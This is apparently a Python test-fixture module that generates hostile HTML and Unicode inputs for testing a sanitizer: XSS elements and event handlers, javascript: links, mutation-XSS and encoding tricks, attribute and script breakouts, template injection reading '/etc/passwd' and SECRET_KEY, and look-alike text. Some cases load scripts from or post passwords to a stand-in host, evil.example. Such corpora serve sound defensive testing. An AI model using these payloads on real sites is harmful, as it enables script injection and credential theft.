"""HTML as somebody with bad intentions would type it into any field: to run, to hide, to pass for somebody else."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from typing import NamedTuple
from urllib.parse import quote

RUN = "hacked=1"  # what each would do if it were let


class Case(NamedTuple):
    name: str
    text: str


def elements() -> Iterator[Case]:
    """Elements that run, load or take over the page by themselves."""
    written = {
        "script": f"<script>{RUN}</script>",
        "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
        "script with a slash": f"<script/x>{RUN}</script>",
        "script that never ends": f"<script>{RUN}//",
        "script from elsewhere": "<script src=//evil.example/a.js></script>",
        "script with a nonce": f'<script nonce="">{RUN}</script>',
        "script as data": f"<script src='data:text/javascript,{RUN}'></script>",
        "module": f"<script type=module>{RUN}</script>",
        "svg script": f"<svg><script>{RUN}</script></svg>",
        "svg script with an entity": "<svg><script>hacked&equals;1</script></svg>",
        "math": f"<math><mtext><script>{RUN}</script></mtext></math>",
        "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        "iframe by address": f"<iframe src='javascript:parent.{RUN}'></iframe>",
        "object": f"<object data='data:text/html,<script>{RUN}</script>'></object>",
        "embed": f"<embed src='javascript:{RUN}'>",
        "base": "<base href='//evil.example/'>",
        "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
        "style": "<style>*{display:none}</style>",
        "style from elsewhere": "<link rel=stylesheet href=//evil.example/a.css>",
        "style that asks": "<style>@import'//evil.example/a.css'</style>",
        "form": "<form action=//evil.example/><input name=password><button>Đăng nhập</button></form>",
        "button of another form": "<button form=sign-in formaction=//evil.example/>Gửi</button>",
        "picture that tells": "<img src=//evil.example/seen.gif>",
        "frameset": f"<frameset onload={RUN}>",
        "template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
        "portal": f"<portal src='javascript:{RUN}'></portal>",
        "marquee": f"<marquee onstart={RUN}>x</marquee>",
        "custom element": f"<x-a onfocus={RUN} tabindex=1 autofocus>x</x-a>",
        "dialog": "<dialog open>Phiên đã hết. Nhập mật khẩu: <input></dialog>",
    }
    yield from (Case(name, text) for name, text in written.items())


EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontransitionend", "onbegin",
    "ontoggle", "onpageshow", "onwheel", "onpointerenter", "onbeforetoggle", "oncontentvisibilityautostatechange",
    "onscrollend", "onauxclick", "oncopy", "onpaste", "onkeydown", "onscroll", "ondrag", "oninvalid", "onreset",
    "onsubmit", "onsearch", "onselect", "oncut", "onended", "ontimeupdate", "onhashchange", "onpopstate", "onmessage",
)  # fmt: skip


def attributes() -> Iterator[Case]:
    """Attributes that run, on the element that lets them and in all ways of writing one."""
    for event in EVENTS:
        yield Case(f"img {event}", f"<img src=x {event}={RUN}>")
    yield Case("svg onload", f"<svg onload={RUN}>")
    yield Case("svg animate", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>")
    yield Case("svg set", f"<svg><a><set attributeName=href to='javascript:{RUN}'></set><text>x</text></a></svg>")
    yield Case("svg use", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></use></svg>")
    yield Case("details", f"<details open ontoggle={RUN}>")
    yield Case("input", f"<input autofocus onfocus={RUN}>")
    yield Case("video", f"<video><source onerror={RUN}></video>")
    yield Case("body", f"<body onload={RUN}>")
    yield Case("style attribute", "<b style='position:fixed;inset:0;background:url(//evil.example/)'>x</b>")
    yield Case("htmx", f"<b hx-get=/x hx-trigger=load hx-on:click='{RUN}'>x</b>")
    yield Case("stimulus", "<b data-controller=w-action data-action='click->w-action#post'>x</b>")
    yield Case("id that shadows", "<a id=namhoc name=namhoc><a id=namhoc name=url href=//evil.example/></a></a>")


SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
           "vbscript:", "data:text/html,", "&#106;avascript:", "&#x6A;avascript&colon;", "javascript&Tab;:",
           "blob:", "file:///", "view-source:", "//evil.example/", "/\\evil.example/",
           "https:evil.example")  # fmt: skip


def addresses() -> Iterator[Case]:
    """Links that run or lead away, written as HTML and in our own marks."""
    for scheme in SCHEMES:
        yield Case(f"link {scheme!r}", f"<a href='{scheme}{RUN}'>bấm</a>")
        yield Case(f"marks {scheme!r}", f"[bấm]({scheme}{RUN})")


def breaking_out() -> Iterator[Case]:
    """Leaving the place where a text stands: an attribute, an element, a comment, a script, JSON, CSS, a header."""
    ways = {
        "double quote": '"', "single quote": "'", "backtick": "`", "angle": ">", "quote and angle": '">',
        "single and angle": "'>", "end of title": "</title>", "end of textarea": "</textarea>",
        "end of script": "</script>", "end of style": "</style>", "end of noscript": "</noscript>",
        "end of template": "</template>", "end of select": "</select>", "comment": "-->", "odd comment": "--!>",
        "cdata": "]]>", "end of xmp": "</xmp>", "end of plaintext": "</plaintext>", "end of option": "</option>",
    }  # fmt: skip
    for name, way in ways.items():
        yield Case(f"out by {name}", f"{way}<img src=x onerror={RUN}>")
    yield Case("out of an attribute", f'" autofocus onfocus="{RUN}')
    yield Case("out of an attribute, single", f"' autofocus onfocus='{RUN}")
    yield Case("out of JSON", '"}</script><script>hacked=1</script>')
    yield Case("out of a string", f"';{RUN};'")
    yield Case("out of a template string", f"${{{RUN}}}")
    yield Case("out of a header", f"x\r\nSet-Cookie: a=b\r\n\r\n<script>{RUN}</script>")
    yield Case("django", "{{ settings.SECRET_KEY }}{% debug %}{% include '/etc/passwd' %}")
    yield Case("placeholder", "%(secret)s %s {0.__class__} {self}")
    yield Case("mustache", f"{{{{constructor.constructor('{RUN}')()}}}}")


def mutating() -> Iterator[Case]:
    """What turns into something else when it is cleaned, or read a second time."""
    written = {
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        "math style": f"<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;img onerror={RUN}&gt;'>",
        "form in form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        "svg style": f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
        "comment in svg": f"<svg><p><style><!--</style><img src=x onerror={RUN}>--></style>",
        "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
        "table": f"<table><td background='javascript:{RUN}'><tr>",
        "foreignObject": f"<svg><foreignObject><p><script>{RUN}</script>",
        "annotation": f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style>",
        "nested half": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        "nested twice": f"<<script>script>{RUN}<</script>/script>",
        "half an entity": f"&lt;script&gt;{RUN}&lt;/script&gt;",
        "entity twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
        "numbers": "".join(f"&#{ord(letter)};" for letter in f"<img src=x onerror={RUN}>"),
        "numbers without end": "".join(f"&#{ord(letter):07}" for letter in f"<script>{RUN}</script>"),
        "percent": quote(f"<script>{RUN}</script>"),
        "percent twice": quote(quote(f"<script>{RUN}</script>")),
        "escaped twice": escape(escape(f"<img src=x onerror={RUN}>")),
        "utf-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        "backslashes": f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
        "full width": f"＜script＞{RUN}＜/script＞",
        "small angles": f"﹤img src=x onerror={RUN}﹥",
        "folds to an angle": f"\u226escript\u226f{RUN}",
        "long s": f"<ſcript>{RUN}</ſcript>",
        "kelvin": f"<linK rel=import href='data:text/html,{RUN}'>",
        "line separators": f"<img\u2028src=x\u2029onerror={RUN}>",
        "form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
        "nothing between": f"<img/src=x/onerror={RUN}>",
        "null between": f"<scr\0ipt>{RUN}</scr\0ipt>",
        "deep": "<b>" * 2_000 + "x",
        "long": f"<img src='{'a' * 20_000}' onerror={RUN}>",
        "strong across": f"**<b>** onclick={RUN} **</b>**",
        "link around": f"[<img src=x onerror={RUN}>](https://example.org)",
        "link with a quote": f'[a](https://example.org/"onmouseover="{RUN})',
        "link in a link": "[a [b](javascript:hacked=1)](https://example.org)",
        "figure": "{{figure:1:value}}<script>hacked=1</script>{{figure:-1}}",
    }  # fmt: skip
    yield from (Case(name, text) for name, text in written.items())


def disguises() -> Iterator[Case]:
    """Names and texts that read as another's: turned round, invisible, look-alike, piled up."""
    written = {
        "turned round": "Phòng \u202eTĐ&DG\u202c Mường Lay",
        "turned round, never back": "a\u202ecod.exe",
        "isolated": "\u2066abc\u2069 \u2067def",
        "marks of direction": "\u200eMường\u200f Lay\u061c",
        "zero width": "Mư\u200bờng\u200c L\u200day\ufeff",
        "word joiner": "Phòng\u2060 GD\u2063ĐT",
        "soft hyphen": "Mườ\u00adng Lay",
        "variation": "Lay\ufe0f\U000e0100",
        "tags": "Lay\U000e0041\U000e0042",
        "Cyrillic": "Рhòng GD&ĐT Mường Lау",
        "Greek": "Ρhòng Μường Lay",
        "full width": "Ｐｈòng ＧＤ＆ĐＴ",
        "mathematical": "𝐏𝐡ò𝐧𝐠 Mường Lay",
        "Icelandic đ": "Phòng GD&ÐT Mường Lay",
        "zalgo": "M" + "\u0300\u0301\u0302\u0303\u0309\u0323" * 60 + "ường",
        "tones alone": "\u0301\u0300\u0309\u0303\u0323",
        "apart": "Mu\u031bo\u031b\u0300ng Lay",
        "unassigned": "\U000e0fff\ufffe\U0010ffff",
        "private": "\ue000\uf8ff",
        "controls": "".join(chr(number) for number in range(1, 32)),
        "controls above": "".join(chr(number) for number in range(0x80, 0xA0)),
        "delete": "a\x7fb",
        "escape sequences": "\x1b[2J\x1b]0;a\x07",
        "separators": "a\u2028b\u2029c\u0085d",
        "spaces alone": "\u00a0\u2003\u3000",
        "one word": "ườ" * 5_000,
        "lines": "\n" * 3_000,
        "emoji": "👩‍👩‍👧‍👦🇻🇳" * 50,
        "letters that fold": "ẞıİſKÅ",
        "ligatures": "ﬃ ﷺ ㌀",
    }
    yield from (Case(f"disguise: {name}", text) for name, text in written.items())


def cases() -> list[Case]:
    return [*elements(), *attributes(), *addresses(), *breaking_out(), *mutating(), *disguises()]
